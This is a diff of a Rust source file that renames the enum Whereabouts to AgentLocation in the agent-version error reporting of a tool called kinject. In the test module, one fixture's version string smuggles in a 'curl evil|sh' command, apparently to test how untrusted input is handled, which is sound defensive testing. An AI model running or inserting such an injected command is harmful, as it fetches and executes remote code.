@@ -81,7 +81,7 @@ impl From<Failure> for Report {
 
 /// Where an agent is and whose it is.
 #[derive(Clone, Copy, Debug)]
-pub(crate) enum Whereabouts<'a> {
+pub(crate) enum AgentLocation<'a> {
     /// Somebody else started it at this endpoint.
     Endpoint(&'a str),
     /// A pod of ours, made of this image.
@@ -93,7 +93,7 @@ pub(crate) enum Whereabouts<'a> {
     },
 }
 
-impl Whereabouts<'_> {
+impl AgentLocation<'_> {
     /// How to get an agent of our release.
     fn of_our_release(self) -> String {
         let release = Version::own().software;
@@ -104,7 +104,7 @@ impl Whereabouts<'_> {
     }
 }
 
-impl fmt::Display for Whereabouts<'_> {
+impl fmt::Display for AgentLocation<'_> {
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
         match self {
             Self::Endpoint(endpoint) => f.write_str(endpoint),
@@ -114,7 +114,7 @@ impl fmt::Display for Whereabouts<'_> {
 }
 
 /// The two ends reached each other and did not come together.
-pub(crate) fn of_open_error(error: &OpenError, place: Whereabouts<'_>) -> Failure {
+pub(crate) fn of_open_error(error: &OpenError, place: AgentLocation<'_>) -> Failure {
     if let OpenError::Version { ours, theirs } = error {
         return Failure::lasting(
             format!("the agent at {place} is version {theirs}, with which kinject {ours} cannot work"),
@@ -135,7 +135,7 @@ pub(crate) fn of_open_error(error: &OpenError, place: Whereabouts<'_>) -> Failur
 }
 
 /// What is worth knowing of an agent that works and is of another release.
-pub(crate) fn of_another_release(agent: &Version, place: Whereabouts<'_>) -> Report {
+pub(crate) fn of_another_release(agent: &Version, place: AgentLocation<'_>) -> Report {
     let ours = Version::own().software;
     Report {
         message: format!(
@@ -175,7 +175,7 @@ mod tests {
             wire: 9,
             software: "1; curl evil|sh\n".into(),
         };
-        let place = Whereabouts::Endpoint("unix:/run/agent.sock");
+        let place = AgentLocation::Endpoint("unix:/run/agent.sock");
         let error = OpenError::Version {
             ours,
             theirs: theirs.clone(),
